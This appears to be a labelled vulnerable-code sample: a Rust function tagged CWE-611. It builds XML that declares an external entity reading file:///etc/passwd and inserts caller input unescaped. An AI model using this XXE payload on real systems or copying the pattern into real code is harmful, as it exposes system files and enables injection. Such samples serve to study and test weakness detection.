// class: semantic weakness; cwe: 611
pub fn run(input: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><name>{}</name>&x;</r>",
        input
    )
}
